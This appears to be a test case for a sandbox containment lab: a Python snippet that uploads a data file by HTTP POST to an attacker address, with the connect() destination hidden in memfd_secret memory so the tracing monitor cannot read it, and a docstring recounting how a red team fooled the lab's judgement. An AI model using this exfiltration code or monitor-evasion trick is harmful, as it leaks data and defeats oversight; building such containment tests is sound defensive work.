# lab:title: Exfiltration whose address sits in secret memory
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network
# adversary: --on network => CONTAINED network ~ ENETUNREACH
# adversary: --off network => ESCAPED exfil
"""The red team's round 7, finding 1: memfd_secret() (Linux 5.14) maps
pages that no other process can read, /proc/PID/mem included. The
connect()'s address lives there, so the lab, stopping the call, could read
neither where it went nor what it was, let it go on as the snippet's own
and judged the run BROKE: "nothing tried to leave". The namespace refused
it all the same (no route). Where the trace listens, memfd_secret() is
refused ENOSYS (round 8: crediting an unread call by the namespace's
routes credited calls the kernel refused for their own faults), so the
snippet falls back to ordinary memory, and the lab makes its connect()
and sees ENETUNREACH."""
import ctypes
import mmap
import os
import socket
import struct
import urllib.parse

libc = ctypes.CDLL(None, use_errno=True)
u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
fd = libc.syscall(447, 0)  # memfd_secret
if fd >= 0:
    os.ftruncate(fd, 4096)
    page = mmap.mmap(fd, 4096)
    print("the address is in secret memory", flush=True)
else:
    page = mmap.mmap(-1, 4096)
    print("memfd_secret refused (%s): ordinary memory" % os.strerror(ctypes.get_errno()), flush=True)
page[0:16] = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", u.port or 80, socket.inet_aton("127.0.0.1"))
where = ctypes.addressof(ctypes.c_char.from_buffer(page))
s = socket.socket()
if libc.connect(s.fileno(), ctypes.c_void_p(where), 16) == 0:
    s.sendall(b"POST /upload HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    print("sent", len(body), "bytes", flush=True)
else:
    print("refused:", os.strerror(ctypes.get_errno()), flush=True)
